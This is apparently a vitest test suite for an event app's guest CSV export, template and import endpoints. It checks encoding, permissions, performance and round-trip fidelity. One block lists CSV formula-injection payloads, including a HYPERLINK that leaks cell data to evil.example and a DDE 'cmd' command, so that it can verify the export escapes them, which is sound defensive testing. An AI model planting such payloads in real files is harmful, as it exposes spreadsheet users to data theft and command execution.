import { env, exports } from "cloudflare:workers";
import * as fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { tagKey } from "../../src/kernel/tag-keys.ts";
import { describeBidiControl, hasVisibleCharacter, withoutOverrides } from "../../src/kernel/visible-text.ts";
import { call, type Host, signedInHost } from "../support/account.ts";
import { addMember, makeEventFixture } from "../support/event-fixture.ts";
import { addGuest, issueLink, makeEvent, type WireGuest } from "../support/guest.ts";
import { allGuests, importCsv, preview, sendCsv } from "../support/guest-list.ts";
import { answerRequest } from "../support/guest-requests.ts";
import { costOf } from "../support/recording-env.ts";

const MANY = 5_000;
/** The start of a formula. */
const FORMULA = /^\s*[=+\-@＝＋－＠]/;

async function hostWithEvent(overrides: Record<string, unknown> = {}) {
  const host = await signedInHost({ tier: "pro" });
  const event = await makeEvent(host, overrides);
  return { host, eventId: event.id };
}

async function exported(host: Host, eventId: string): Promise<string> {
  const response = await host.api("GET", `/events/${eventId}/guests/export.csv`);
  expect(response.status, "GET …/guests/export.csv").toBe(200);
  // Read the bytes, because `text()` removes the byte order mark.
  return new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(await response.arrayBuffer());
}

/** The rows of an export as papaparse reads them, cells by column name. */
function rowsOf(csv: string): Record<string, string>[] {
  return Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true }).data;
}

/** The fields of a guest that an import writes. */
function imported(guest: WireGuest) {
  const { name, email, phone, party_size, notes, tags, table, external_id, locale, companions, greeting } = guest;
  return { name, email, phone, party_size, notes, tags, table, external_id, locale, companions, greeting };
}

describe("GET /events/{eventId}/guests/export.csv", () => {
  it("returns a CSV file for download, which Excel reads as UTF-8", async () => {
    const { host, eventId } = await hostWithEvent({ name: "Zoë & Łukasz: the party" });
    await addGuest(host, eventId, { name: "Zoë" });
    const response = await host.api("GET", `/events/${eventId}/guests/export.csv`);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="guests-zoe-ukasz-the-party.csv"');
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.split("\r\n")).toHaveLength(3);
    expect(text).not.toMatch(/[^\r]\n/);
  });

  it("contains every guest of the event once, in the order in which they were added", async () => {
    const { host, eventId } = await hostWithEvent();
    const other = await makeEvent(host);
    await addGuest(host, other.id, { name: "Elsewhere" });
    await importCsv(host, eventId, "name\nAda\nBob\nCy\n");
    expect(rowsOf(await exported(host, eventId)).map(({ name }) => name)).toEqual(["Ada", "Bob", "Cy"]);
  });

  it("contains RSVP and check-in, in UTC and in the event's time zone", async () => {
    const { host, eventId } = await hostWithEvent({ timezone: "America/New_York" });
    const guest = await addGuest(host, eventId, {
      name: "Ada",
      email: "ada@example.com",
      phone: "+442079460000",
      party_size: 3,
      notes: "Vegan,\nno nuts",
    });
    const silent = await addGuest(host, eventId, { name: "Silent" });
    const { token } = await issueLink(host, eventId, guest.id, { notify: false });
    expect((await exports.default.fetch(answerRequest(token, { plus_ones: 2 }))).status).toBe(201);
    const arrival = { guest_id: guest.id, arrival_count: 2, notes: "Came late" };
    expect((await host.api("POST", `/events/${eventId}/check-in`, arrival)).status).toBe(201);
    // Evenings in New York, in winter and in summer; in UTC it is the next day.
    const answered = Date.parse("2027-01-01T03:04:05Z");
    const arrived = Date.parse("2027-07-02T00:30:00Z");
    await env.DB.batch([
      env.DB.prepare("update rsvps set submitted_at = ? where event_id = ?").bind(answered, eventId),
      env.DB.prepare("update check_ins set checked_in_at = ? where event_id = ?").bind(arrived, eventId),
    ]);
    const [row, other] = rowsOf(await exported(host, eventId));
    expect(row).toMatchObject({
      id: guest.id,
      name: "Ada",
      email: "ada@example.com",
      phone: "'+442079460000",
      party_size: "3",
      notes: "Vegan,\nno nuts",
      invited_at_utc: expect.stringMatching(/Z$/),
      rsvp_response: "attending",
      rsvp_plus_ones: "2",
      rsvp_edits: "0",
      rsvp_submitted_at_utc: "2027-01-01T03:04:05.000Z",
      rsvp_submitted_at_local: "2026-12-31 22:04",
      checked_in_at_utc: "2027-07-02T00:30:00.000Z",
      checked_in_at_local: "2027-07-01 20:30",
      arrival_count: "2",
      walk_in: "no",
      check_in_notes: "Came late",
      time_zone: "America/New_York",
    });
    expect(other).toMatchObject({ id: silent.id, email: "", rsvp_response: "", checked_in_at_utc: "", walk_in: "" });
  });

  it("contains the answers under the labels of their questions, and the companions by name", async () => {
    const { host, eventId } = await hostWithEvent({ companion_names: "optional" });
    const asked = {
      items: [
        {
          label: "=Diet",
          kind: "choice",
          options: ["Fish", "Vegan"],
          scope: "person",
          when: "attending",
          required: false,
        },
        { label: "name", kind: "text", scope: "guest", when: "always", required: false },
      ],
    };
    const put = await host.api("PUT", `/events/${eventId}/questions`, asked);
    expect(put.status).toBe(200);
    const [diet, name] = (await put.json<{ items: { id: string }[] }>()).items.map(({ id }) => id);
    const ada = await addGuest(host, eventId, { name: "Ada", tags: ["VIP", "Family"], companions: [{ name: "Ben" }] });
    await addGuest(host, eventId, { name: "Silent" });
    const { token } = await issueLink(host, eventId, ada.id, { notify: false });
    const answer = {
      companions: [{ name: "Ben", attending: true, answers: { [diet ?? ""]: "Fish" } }],
      answers: { [diet ?? ""]: "Vegan", [name ?? ""]: "@Ada" },
    };
    expect((await exports.default.fetch(answerRequest(token, answer))).status).toBe(201);
    const [row, silent] = rowsOf(await exported(host, eventId));
    expect(row).toMatchObject({
      name: "Ada",
      tags: "VIP; Family",
      companions: "Ben",
      rsvp_companions: "Ben",
      rsvp_answered_by: "guest",
      rsvp_seat: "confirmed",
      "answer: =Diet": "Ada: Vegan · Ben: Fish",
      "answer: name": "'@Ada",
    });
    expect(silent).toMatchObject({ "answer: =Diet": "", "answer: name": "", rsvp_seat: "" });
    expect(await importCsv(host, eventId, await exported(host, eventId))).toMatchObject({ imported: 0, skipped: 2 });
  });

  it("accepts viewers, and returns 404 to a non-member and 401 without a session", async () => {
    const { host, eventId } = await hostWithEvent();
    const [viewer, stranger] = [await signedInHost(), await signedInHost()];
    await addMember(eventId, viewer.id, "viewer");
    const path = `/events/${eventId}/guests/export.csv`;
    expect((await viewer.api("GET", path)).status).toBe(200);
    expect((await stranger.api("GET", path)).status).toBe(404);
    expect((await call("GET", path)).status).toBe(401);
    expect((await host.api("GET", `/events/${crypto.randomUUID()}/guests/export.csv`)).status).toBe(404);
  });

  it("makes one round trip for 5,000 guests, and reads each of them once", async () => {
    const host = await signedInHost({ tier: "business" });
    const { eventId } = await makeEventFixture(host.id, MANY);
    const headers = { Authorization: `Bearer ${host.token}` };
    const found = await costOf(new Request(`https://usher.test/events/${eventId}/guests/export.csv`, { headers }));
    // The record of the export and the notice to the owners, with their indexes.
    expect([found.roundTrips, found.d1Calls, found.rowsWritten]).toEqual([1, 1, 4]);
    expect(found.rowsRead).toBeLessThanOrEqual(MANY + 20);
    expect(rowsOf(await found.response.text())).toHaveLength(MANY);
  });
});

describe("exportGuests (formulas)", () => {
  const FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "a;=1+1;b",
  ];

  it("escapes a formula in every field that a guest or a host can write", async () => {
    const { host, eventId } = await hostWithEvent();
    for (const formula of FORMULAS) {
      await addGuest(host, eventId, { name: formula, notes: `first line\n${formula}`, phone: "+442079460000" });
    }
    await addGuest(host, eventId, { name: "x", email: "+evil@example.com" });
    const csv = await exported(host, eventId);
    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, "")).data.flat();
    for (const cell of cells) expect(cell).not.toMatch(FORMULA);
    // Excel in locales with decimal commas splits at semicolons and line breaks, even inside our quotes.
    for (const cell of csv.split(/[;\r\n]/)) expect(cell).not.toMatch(FORMULA);
  });
});

describe("importGuests (exported file)", () => {
  /** Single-line names of characters that are hard to quote. */
  const hostileText = fc
    .string({
      unit: fc.oneof(fc.constantFrom(..."=+-@＝＋'\",;|\t éß山🎉\u202e"), fc.string({ maxLength: 1 })),
      maxLength: 30,
    })
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what a name must not have
    .map((text) => text.replace(/[\u0000-\u001f\u007f-\u009f]/g, " ").trim())
    .filter(hasVisibleCharacter);
  const notes = fc
    .array(hostileText, { minLength: 1, maxLength: 3 })
    .chain((lines) => fc.constantFrom("\n", "\r\n", "\t", "; ").map((separator) => lines.join(separator).trim()));
  const lineOfText = hostileText.filter(
    (text) => withoutOverrides(text) === text && describeBidiControl(text) === null,
  );
  /** Part of a list in one cell. */
  const entry = lineOfText
    .map((text) => text.replace(/[;|]/g, " ").trim())
    .filter((text) => hasVisibleCharacter(text) && hasVisibleCharacter(text.slice(0, 50)));
  const guest = fc.record({
    name: lineOfText,
    email: fc.option(
      fc.tuple(fc.constantFrom("+", "-", "_", "'+", "a"), fc.uuid()).map(([sign, id]) => `${sign}${id}@example.com`),
      { nil: null },
    ),
    phone: fc.option(
      fc.integer({ min: 1_000_000, max: 999_999_999 }).map((number) => `+49${number}`),
      { nil: null },
    ),
    party_size: fc.option(fc.integer({ min: 1, max: 20 }), { nil: null }),
    notes: fc.option(notes, { nil: null }),
    tags: fc.uniqueArray(
      entry.map((text) => text.slice(0, 50).trim()),
      { maxLength: 4, selector: tagKey },
    ),
    table: fc.option(lineOfText, { nil: null }),
    external_id: fc.option(
      fc.tuple(fc.constantFrom("=", "+", "'@", '"', "", "Ω"), fc.uuid()).map((parts) => parts.join("")),
      { nil: null },
    ),
    greeting: fc.option(lineOfText, { nil: null }),
    locale: fc.option(fc.constantFrom("en", "pt-BR", "zh-Hant-TW", "sr-Latn"), { nil: null }),
    companions: fc.array(
      entry.map((name) => ({ name })),
      { maxLength: 3 },
    ),
  });
  const fitting = guest.map((one) => ({
    ...one,
    party_size: one.party_size === null ? null : Math.max(one.party_size, one.companions.length + 1),
  }));

  it("changes nothing on its own event, and creates the same guests on another event", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fitting, { minLength: 1, maxLength: 12 }), async (guests) => {
        const { host, eventId } = await hostWithEvent();
        for (const one of guests) await addGuest(host, eventId, one);
        const before = await allGuests(host, eventId);
        const csv = await exported(host, eventId);

        const report = await importCsv(host, eventId, csv);
        expect(report).toMatchObject({ imported: 0, skipped: guests.length, rejected: 0 });
        expect(await allGuests(host, eventId)).toEqual(before);

        const copy = await makeEvent(host);
        expect(await importCsv(host, copy.id, csv)).toMatchObject({ imported: guests.length, rejected: 0 });
        expect((await allGuests(host, copy.id)).map(imported)).toEqual(before.map(imported));
      }),
      { numRuns: 10 },
    );
  });

  it("changes nothing with 5,000 guests with every field, RSVPs and arrivals", async () => {
    const host = await signedInHost({ tier: "business" });
    const { eventId } = await makeEventFixture(host.id, MANY);
    const questions = { items: [{ label: "Table", kind: "text", scope: "guest", when: "always", required: false }] };
    const put = await host.api("PUT", `/events/${eventId}/questions`, questions);
    const { items } = await put.json<{ items: { id: string }[] }>();
    await env.DB.batch([
      env.DB.prepare(
        `update guests set phone = '+4915112345678', party_size = 3, notes = '=1+1', table_name = '@7', locale = 'pt-BR', greeting = '+Oma',
           external_id = 'crm-' || id, tags = '["VIP","=1+1"]', tag_keys = char(10) || 'vip' || char(10) || '=1+1' || char(10),
           companions = '[{"name":"Zoë \\"Größe\\""},{"name":"王小明"}]' where event_id = ?`,
      ).bind(eventId),
      env.DB.prepare(
        `insert into rsvps (event_id, guest_id, id, response, plus_ones, answers, companions, heads, seat, user_agent, fingerprint, submitted_at, updated_at)
         select event_id, id, id, 'attending', 1, json_object(?2, '7'), '[{"name":"Ben","attending":true,"answers":{}}]',
           2, 'confirmed', 'test', '{}', 1, 1 from guests where event_id = ?1`,
      ).bind(eventId, items[0]?.id ?? ""),
      env.DB.prepare(
        `insert into check_ins (event_id, guest_id, id, checked_in_at, recorded_at, checked_in_by, arrival_count)
         select event_id, id, id, 1, 1, ?2, 2 from guests where event_id = ?1`,
      ).bind(eventId, host.id),
    ]);
    const csv = await exported(host, eventId);
    expect(rowsOf(csv)[MANY - 1]).toMatchObject({ "answer: Table": "7", table: "'@7", rsvp_seat: "confirmed" });
    const stateOf = (id: string) =>
      env.DB.prepare(
        "select json_group_array(json_array(name, email, phone, party_size, notes, tags, table_name, external_id, locale, companions, greeting, tag_keys) order by name) as state from guests where event_id = ?",
      )
        .bind(id)
        .first<string>("state");
    const before = await stateOf(eventId);
    const path = `/events/${eventId}/guests/import`;
    const again = await sendCsv(host, path, csv);
    expect(await again.json()).toMatchObject({ imported: 0, skipped: MANY, rejected: 0 });
    expect(await stateOf(eventId)).toBe(before);

    const copy = await makeEvent(host);
    expect(await importCsv(host, copy.id, csv)).toMatchObject({ imported: MANY, skipped: 0, rejected: 0 });
    expect(await stateOf(copy.id)).toBe(before);
  });

  it("changes nothing after a spreadsheet has saved the file in its own format", async () => {
    const { host, eventId } = await hostWithEvent();
    await importCsv(host, eventId, "name,email,phone\nZoë,zoe@example.com,+442079460000\n=1+1,,\n'@x,,\n");
    const rows = Papa.parse<string[]>((await exported(host, eventId)).replace(/^\uFEFF/, "")).data;
    for (const delimiter of [";", "\t", "|"]) {
      const saved = Papa.unparse(rows, { delimiter, newline: "\n" });
      expect(await importCsv(host, eventId, saved)).toMatchObject({ imported: 0, skipped: 3, rejected: 0 });
    }
  });
});

describe("GET /events/{eventId}/guests/template", () => {
  /** @spec 4.37 "GET | /template | editor+ | CSV template" */
  it("returns the columns that an import reads, and an example that can be imported", async () => {
    const { host, eventId } = await hostWithEvent();
    const response = await host.api("GET", `/events/${eventId}/guests/template`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="guests-template.csv"');
    const csv = await response.text();
    expect(csv.replace(/^\uFEFF/, "").split("\r\n")[0]).toBe(
      "name,email,phone,party_size,notes,tags,table,external_id,companions,locale,greeting",
    );
    const seen = await preview(host, eventId, csv);
    expect(seen).toMatchObject({ total: 1, valid: 1 });
    expect(seen.columns.every(({ field }) => field !== null)).toBe(true);
  });

  /** @spec 4.37 "GET | /template | editor+ | CSV template" */
  it("rejects a viewer with 403", async () => {
    const { eventId } = await hostWithEvent();
    const viewer = await signedInHost();
    await addMember(eventId, viewer.id, "viewer");
    expect((await viewer.api("GET", `/events/${eventId}/guests/template`)).status).toBe(403);
  });
});
